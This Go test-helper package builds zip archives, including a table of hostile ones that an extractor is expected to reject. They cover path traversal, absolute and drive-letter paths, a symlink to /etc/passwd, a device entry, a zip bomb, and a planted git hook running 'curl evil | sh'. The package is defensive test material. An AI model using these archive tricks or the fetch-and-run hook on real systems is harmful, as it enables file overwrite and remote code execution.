// Package ziptest builds zip archives for tests, hostile ones included:
// archive/zip's writer checks nothing, so names and modes go in as given.
package ziptest

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io/fs"
)

// Entry is one entry of an archive.
type Entry struct {
	Name string
	Data []byte
	Mode fs.FileMode
}

// File is a regular file entry.
func File(name, data string) Entry { return Entry{Name: name, Data: []byte(data)} }

// Build writes entries, deflated, into a zip.
func Build(entries ...Entry) []byte {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, e := range entries {
		h := &zip.FileHeader{Name: e.Name, Method: zip.Deflate}
		if e.Mode != 0 {
			h.SetMode(e.Mode)
		}
		fw, err := w.CreateHeader(h)
		if err != nil {
			panic(err)
		}
		if _, err := fw.Write(e.Data); err != nil {
			panic(err)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

// Hostile is an archive that must be refused, and what the refusal names.
type Hostile struct {
	Name   string // the case
	Entry  string // the entry the error must name
	Reason string // a phrase of the error
	Data   []byte
}

// HostileZips returns the hostile archives; maxFiles is the reader's file
// limit, which the "too many files" case exceeds by one.
func HostileZips(maxFiles int) []Hostile {
	var many []Entry
	for i := 0; i <= maxFiles; i++ {
		many = append(many, File(fmt.Sprintf("t/f%04d.txt", i), "x"))
	}
	return []Hostile{
		{"traversal", "t/../../evil.js", "escapes the target", Build(File("t/app.js", "ok"), File("t/../../evil.js", "pwned"))},
		{"traversal at top", "../evil.js", "escapes the target", Build(File("../evil.js", "pwned"))},
		{"absolute", "/tmp/evil", "absolute path", Build(File("app.js", "ok"), File("/tmp/evil", "pwned"))},
		{"drive letter", "C:/evil.js", "drive letter", Build(File("C:/evil.js", "pwned"))},
		{"backslash", `t\..\..\evil.js`, "backslash", Build(File(`t\..\..\evil.js`, "pwned"))},
		{"symlink", "t/link", "symbolic link", Build(File("t/app.js", "ok"), Entry{Name: "t/link", Data: []byte("/etc/passwd"), Mode: fs.ModeSymlink | 0o777})},
		{"device", "t/dev", "device", Build(Entry{Name: "t/dev", Mode: fs.ModeDevice | fs.ModeCharDevice | 0o644})},
		{"duplicate", "t/app.js", "appears twice", Build(File("t/app.js", "one"), File("t/app.js", "two"))},
		{"case duplicate", "t/README.md", "differs only in case", Build(File("t/readme.md", "one"), File("t/README.md", "two"))},
		{"file inside a file", "t/app.js/x", "which is a file", Build(File("t/app.js", "one"), File("t/app.js/x", "two"))},
		{"git hooks", "t/.git/hooks/post-checkout", ".git folder", Build(File("t/app.js", "ok"), File("t/.git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n"))},
		{"too many files", fmt.Sprintf("t/f%04d.txt", maxFiles), "more than", Build(many...)},
		{"bomb", "t/zeros", "zip bomb", Build(Entry{Name: "t/zeros", Data: make([]byte, 8<<20)})},
	}
}
